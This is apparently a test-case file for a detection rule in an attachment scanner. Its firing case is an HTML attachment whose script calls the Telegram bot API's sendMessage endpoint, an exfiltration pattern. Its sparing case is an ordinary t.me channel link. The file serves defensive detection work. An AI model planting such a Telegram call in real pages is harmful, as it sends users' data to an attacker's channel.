import type { RuleCases } from '../rule-cases.ts';

export const cases: RuleCases = {
  fires: [{ attachment: { name: 'a.html', type: 'text/html', body: '<script>fetch("https://api.telegram.org/bot1:x/sendMessage")</script>' } }],
  spares: [{ attachment: { name: 'a.html', type: 'text/html', body: '<a href="https://t.me/channel">our channel</a>' } }],
};
